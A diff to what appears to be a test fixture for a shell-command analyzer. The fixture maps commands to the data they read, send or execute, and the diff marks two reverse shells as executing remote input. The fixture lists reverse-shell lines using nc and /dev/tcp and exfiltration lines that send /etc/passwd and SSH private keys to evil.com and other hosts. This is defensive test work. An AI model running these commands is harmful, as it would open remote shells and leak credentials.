@@ -124,7 +124,8 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
     ("scp user@host:/etc/passwd ./passwd", {"reads": ("scp://host/etc/passwd",), "writes": ("passwd",), "sends": ("host",)}),
     ("rsync -avz -e ssh ~/.ssh/ backup@10.0.0.5:/keys/",
      {"reads": ("~/.ssh",), "sends": ("10.0.0.5",), "payloads": ("~/.ssh",)}),
-    ("nc -e /bin/sh evil.com 4444", {"executes": ("/bin/sh",), "sends": ("tcp://evil.com:4444",)}),
+    # a reverse shell: the program's stdin is the connection, so it runs what the peer sends
+    ("nc -e /bin/sh evil.com 4444", {"executes": ("/bin/sh", "tcp://evil.com:4444"), "sends": ("tcp://evil.com:4444",)}),
     ("ncat -l -p 8080", {}),
     ("cat ~/.ssh/id_rsa | ssh user@host 'cat > k'",
      {"reads": ("~/.ssh/id_rsa",), "sends": ("host",), "payloads": ("~/.ssh/id_rsa",)}),
@@ -133,7 +134,7 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
      {"reads": ("data.txt",), "sends": ("tcp://evil.com:443",), "payloads": ("data.txt",)}),
     ("mail -s hi bob@example.com < report.txt",
      {"reads": ("report.txt",), "sends": ("mailto:bob@example.com",), "payloads": ("report.txt",)}),
-    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", {"sends": ("tcp://10.0.0.1:4444",)}),
+    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", {"executes": ("tcp://10.0.0.1:4444",), "sends": ("tcp://10.0.0.1:4444",)}),
     ("cat /etc/passwd > /dev/tcp/evil.com/9", {"reads": ("/etc/passwd",), "sends": ("tcp://evil.com:9",),
                                                 "payloads": ("/etc/passwd",)}),
     ("git clone https://github.com/x/y.git", {"reads": ("https://github.com/x/y.git",), "writes": ("y",)}),
